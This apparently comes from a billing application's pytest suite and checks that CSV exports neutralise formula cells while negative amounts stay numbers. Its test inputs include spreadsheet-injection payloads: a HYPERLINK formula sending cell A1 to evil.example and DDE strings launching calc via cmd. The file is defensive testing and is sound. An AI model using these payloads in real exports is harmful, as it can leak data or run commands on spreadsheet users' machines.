"""Generated CSV files cannot attack their readers: every CSV writer (agency exports, the statement print-vendor file,
report downloads) neutralises text cells starting with = + - @ tab or CR with a leading quote, while amounts, counts
and dates (a negative balance -12.50 among them) stay numbers; fixed-width agency records stay one line each."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from billing import claims as claim_service
from billing import ledger, statements
from billing.agency_formats import render, validate_format
from billing.models import StatementRun
from billing.report_reads import csv_text
from integrations import csvsafe
from medbill.errors import Invalid
from tests.billing.factories import billing_practice, insured_patient, visit
from tests.conftest import login, unique

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]  # fmt: skip


def _rows(text: str, **kwargs) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), **kwargs))


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_a_formula_gets_a_leading_quote(value):
    assert csvsafe.safe_cell(value) == "'" + value
    out = io.StringIO()
    csvsafe.writer(out).writerow([value, "Ann Lee"])
    assert _rows(out.getvalue()) == [["'" + value, "Ann Lee"]]


def test_numbers_dates_and_plain_text_are_written_as_they_are():
    out = io.StringIO()
    csvsafe.writer(out).writerow(
        [Decimal("-12.50"), -3, 1.5, date(2026, 1, 2), None, csvsafe.Number("-1250"), "Ann", "", "O'Hara", "a=b"]
    )
    assert _rows(out.getvalue()) == [["-12.50", "-3", "1.5", "2026-01-02", "", "-1250", "Ann", "", "O'Hara", "a=b"]]


def test_dict_writer_neutralises_header_and_cells():
    out = io.StringIO()
    writer = csvsafe.DictWriter(out, fieldnames=["=name", "amount"])
    writer.writeheader()
    writer.writerows([{"=name": "-Lee", "amount": Decimal("-5.00")}])
    writer.writerow({"=name": "@x", "amount": 7})
    assert _rows(out.getvalue()) == [["'=name", "amount"], ["'-Lee", "-5.00"], ["'@x", "7"]]


def test_no_module_writes_csv_but_through_csvsafe():
    """One way to write CSV: a new csv.writer elsewhere would skip the neutralisation."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for folder in ("api", "billing", "portal", "jobs", "tenants", "integrations", "medbill")
        for path in (root / folder).rglob("*.py")
        if path.name != "csvsafe.py"
        and any(call in path.read_text(encoding="utf-8") for call in ("csv.writer(", "csv.DictWriter("))
    ]
    assert offenders == []


def test_report_csv_neutralises_text_and_keeps_negative_amounts_numbers():
    text = csv_text(["practice", "ar_total", "count", "month"],
                    [["=cmd|' /C calc'!A0", Decimal("-12.50"), -2, date(2026, 3, 1)]])  # fmt: skip
    assert _rows(text) == [["practice", "ar_total", "count", "month"], ["'=cmd|' /C calc'!A0", "-12.50", "-2",
                                                                          "2026-03-01"]]  # fmt: skip


AGENCY_CSV = {
    "type": "csv",
    "rows": "account",
    "columns": [
        {"field": "account_number", "heading": "Acct"},
        {"field": "patient_last_name", "heading": "@Last"},
        {"field": "patient_balance", "heading": "Owes"},
        {"field": "placed_date", "heading": "Placed"},
        {"field": "placement_id", "heading": "Id"},
        {"constant": "-P", "heading": "Type"},
    ],
}


def _account(**overrides) -> dict:
    return {"account_number": "ACC-1", "patient_last_name": "=HYPERLINK(\"http://evil.example\")",
            "patient_balance": Decimal("-12.50"), "placed_date": date(2026, 11, 2), "placement_id": 7,
            "services": []} | overrides  # fmt: skip


@pytest.mark.parametrize("money_style,owes", [("decimal", "-12.50"), ("cents", "-1250")])
def test_agency_csv_export_neutralises_text_but_not_amounts(money_style, owes):
    fmt = validate_format(AGENCY_CSV | {"money": money_style})
    rows = _rows(render(fmt, [_account()]).decode())
    assert rows == [
        ["Acct", "'@Last", "Owes", "Placed", "Id", "Type"],
        ["ACC-1", "'=HYPERLINK(\"http://evil.example\")", owes, "2026-11-02", "7", "'-P"],
    ]


def test_fixed_width_records_cannot_carry_a_line_break():
    fixed = {
        "type": "fixed", "money": "cents", "line_ending": "lf",
        "fields": [{"field": "account_number", "start": 1, "length": 10},
                   {"field": "patient_last_name", "start": 11, "length": 20},
                   {"field": "patient_balance", "start": 31, "length": 8, "pad": "0"}],
    }  # fmt: skip
    fmt = validate_format(fixed)
    data = render(fmt, [_account(patient_last_name="Lee\r\nEVIL\u2028X\x85Y"), _account(account_number="ACC-2")])
    lines = data.decode("ascii").split("\n")
    assert lines[-1] == "" and len(lines) == 3
    assert all(len(line) == 38 for line in lines[:2])
    for bad in ("A\r\nB", "A\nB", "A\tB"):
        with pytest.raises(Invalid) as refused:
            validate_format(fixed | {"fields": [*fixed["fields"], {"constant": bad, "start": 40, "length": 5}]})
        assert "fields[3].constant" in refused.value.errors
    with pytest.raises(Invalid) as refused:
        validate_format(fixed | {"date_format": "%Y%m%d\n"})
    assert "date_format" in refused.value.errors


def _owing_visit(services, bp, patient_id: int) -> None:
    """A billed visit whose payer moved $5.00 of each line to the patient."""
    with services.db.tenant_session(bp.slug) as s:
        (claim,) = claim_service.create_claims(s, bp.access, visit(services, bp, patient_id, days_ago=40))
        for line in claim.lines:
            ledger.post(s, line, "charge", line.charge, source_type="test")
            ledger.post(s, line, "insurance_payment", line.charge - Decimal("5.00"), source_type="test")
            ledger.post(s, line, "patient_responsibility", Decimal("5.00"), source_type="test", group_code="PR")
        s.commit()


def test_the_statement_print_file_neutralises_patient_text(services, factory):
    bp = billing_practice(services, factory)
    patient = insured_patient(services, bp, factory)
    from billing.models import Patient

    with services.db.tenant_session(bp.slug) as s:
        row = s.get(Patient, patient)
        row.last_name, row.address_line1, row.city = "=HYPERLINK(\"http://evil.example\")", "+1 Main St", "@Austin"
        s.commit()
    _owing_visit(services, bp, patient)
    with services.db.tenant_session(bp.slug) as s:
        run, created = statements.start_run(s, bp.access)
        s.commit()
        assert created
        statements.execute_run(s, run.id, practice_slug=bp.slug, storage=services.storage)
        s.commit()
        key = s.get(StatementRun, run.id).batch_storage_key
    (row,) = csv.DictReader(io.StringIO(services.storage.get(key).decode()))
    assert row["patient_name"].endswith("=HYPERLINK(\"http://evil.example\")")
    assert not row["patient_name"].startswith(csvsafe.FORMULA_STARTS)
    assert (row["address_line1"], row["city"]) == ("'+1 Main St", "'@Austin")
    assert row["amount_due"] == "10.00" and row["statement_date"] == date.today().isoformat()


def test_the_company_overview_csv_neutralises_company_and_practice_names(services, factory, client):
    from tenants.registry import create_practice

    company = factory.company()
    create_practice(services.db.engine, company.slug, unique("pr"), "=HYPERLINK(\"http://evil.example\",\"Open\")")
    headers = login(client, factory.user("company_admin", company=company))
    month = (date.today().replace(day=1) - timedelta(days=1)).strftime("%Y-%m")
    response = client.get("/api/v1/reports/company-overview", headers=headers,
                          query_string={"format": "csv", "month": month})  # fmt: skip
    assert response.status_code == 200, response.data[:300]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    (practice,) = [r for r in rows if r["practice"] != "total"]
    assert practice["name"] == "'=HYPERLINK(\"http://evil.example\",\"Open\")"
    assert practice["ar_total"] == "0.00"
